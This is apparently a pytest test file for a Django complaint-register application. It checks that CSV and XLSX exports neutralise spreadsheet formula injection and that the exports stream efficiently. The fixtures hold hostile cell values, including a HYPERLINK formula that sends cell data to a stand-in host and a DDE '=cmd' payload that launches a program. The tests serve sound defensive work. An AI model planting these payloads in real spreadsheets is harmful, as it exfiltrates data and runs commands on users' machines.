"""The register exports: formulas neutralised (issue 12, point 4) and streaming (issue 15)."""

from __future__ import annotations

import csv
import io

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import translation
from openpyxl import load_workbook

from klachtbeheer.complaints.models import Category, Measure
from klachtbeheer.reporting import exports
from klachtbeheer.reporting.selectors import RegisterFilters, register
from tests.reporting.test_pages import csv_rows

pytestmark = pytest.mark.django_db

HOSTILE = [
    '=HYPERLINK("http://evil.example/?d="&A1,"klik")',
    "+31 6 12345678",
    "-1+1",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.fixture(autouse=True)
def _dutch_urls():
    with translation.override("nl"):
        yield


def url(name, *args):
    return reverse(f"reporting:{name}", args=args)


@pytest.fixture
def hostile(year):
    """Measures (typed by staff) and a category name that a spreadsheet would run."""
    measures = list(Measure.objects.order_by("id")[: len(HOSTILE)])
    assert len(measures) >= 4
    texts = {}
    for measure, text in zip(measures, HOSTILE, strict=False):
        Measure.objects.filter(pk=measure.pk).update(description=text)
        texts[measure.complaint.reference] = text
    Category.objects.filter(pk=year.categories["A"].pk).update(name="=cmd|' /C calc'!A0")
    return texts


def test_the_csv_export_neutralises_formulas_and_keeps_them_readable(client, year, hostile):
    client.force_login(year.qm)
    rows = csv_rows(client.get(url("register_export", "csv")))
    header, body = rows[0], rows[1:]
    by_ref = {row[0]: dict(zip(header, row, strict=True)) for row in body}
    for reference, text in hostile.items():
        cell = by_ref[reference]["Maatregelen"]
        assert cell == "'" + text  # the text as typed, behind an apostrophe: shown, not run
    categories = [row["Categorieën"] for row in by_ref.values() if row["Categorieën"]]
    assert any(cell.startswith("'=cmd|") for cell in categories)
    for row in body:
        for cell in row:
            assert not cell.startswith(exports.FORMULA_STARTS), cell


def test_the_xlsx_export_keeps_formulas_as_text(client, year, hostile):
    client.force_login(year.qm)
    response = client.get(url("register_export", "xlsx"))
    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    header = [cell.value for cell in sheet[1]]
    column = header.index("Maatregelen")
    seen = {}
    for line in sheet.iter_rows(min_row=2):
        for cell in line:
            assert cell.data_type != "f", cell.value  # no cell is a formula
        seen[line[0].value] = line[column]
    for reference, text in hostile.items():
        cell = seen[reference]
        assert cell.value == text  # exactly as typed
        assert cell.data_type == "s"
        assert cell.quotePrefix  # and marked as text for whoever edits it
    received = header.index("Ontvangen op")
    for line in sheet.iter_rows(min_row=2):
        assert line[received].is_date and line[received].number_format == "yyyy-mm-dd"


def test_a_chart_csv_neutralises_category_names(client, year, hostile):
    client.force_login(year.qm)
    rows = csv_rows(client.get(url("chart_csv", "categories"), {"year": "2026"}))
    labels = [row[0] for row in rows[1:]]
    assert "'=cmd|' /C calc'!A0" in labels


def test_plain_values_pass_unchanged():
    assert exports.neutral("Afspraak gemist") == "Afspraak gemist"
    assert exports.neutral(-3) == -3
    assert exports.neutral("a=b") == "a=b"
    for text in HOSTILE:
        assert exports.neutral(text) == "'" + text


def test_the_export_reads_in_chunks_with_labels_looked_up_once(client, year, monkeypatch):
    """Queries per export: labels once, then two per chunk of rows, whatever the rows."""
    client.force_login(year.qm)
    client.get(url("register_export", "csv"))  # warm up
    monkeypatch.setattr(exports, "CHUNK", 1000)
    with CaptureQueriesContext(connection) as one_chunk:
        csv_rows(client.get(url("register_export", "csv")))
    monkeypatch.setattr(exports, "CHUNK", 4)  # 15 rows: four chunks
    with CaptureQueriesContext(connection) as four_chunks:
        rows = csv_rows(client.get(url("register_export", "csv")))
    assert len(rows) == 16
    if connection.vendor == "postgresql":
        # One COPY streams every row (issue 15.5): no chunks at all.
        assert len(four_chunks) == len(one_chunk)
    else:
        assert len(four_chunks) == len(one_chunk) + 2 * 3, [
            q["sql"][:80] for q in four_chunks.captured_queries
        ]


@pytest.mark.skipif(connection.vendor != "postgresql", reason="COPY is PostgreSQL's")
def test_copy_writes_the_rows_the_python_writer_writes(year, hostile):
    """The CSV the database writes (labels from JSON maps, its own date output) reads back
    cell for cell as the rows of `exports.rows` through Python's csv writer."""
    queryset = register(year.qm, filters=RegisterFilters())
    database = "".join(exports.csv_lines(queryset))
    python = io.StringIO()
    writer = csv.writer(python, delimiter=";")
    writer.writerow(exports.columns())
    for values in exports.rows(queryset, for_csv=True):
        writer.writerow(values)

    def parsed(text):
        return list(csv.reader(io.StringIO(text.lstrip("\ufeff")), delimiter=";"))

    ours = parsed(database)
    assert len(ours) == queryset.count() + 1
    assert any(row[9] for row in ours[1:]) and any(row[24] for row in ours[1:])  # details there
    assert ours == parsed(python.getvalue())


@pytest.mark.skipif(connection.vendor != "postgresql", reason="COPY is PostgreSQL's")
def test_copy_sends_pieces_not_a_piece_per_row(year, monkeypatch):
    """COPY hands over one row at a time; the download goes out in pieces of PIECE_BYTES."""
    queryset = register(year.qm, filters=RegisterFilters())
    counter = exports.Counter()
    pieces = list(exports.csv_lines(queryset, counter=counter))
    assert counter.rows == queryset.count() > 2
    assert len(pieces) == 2  # the header, then every row in one piece
    monkeypatch.setattr(exports, "PIECE_BYTES", 1)
    assert len(list(exports.csv_lines(queryset))) == 1 + counter.rows
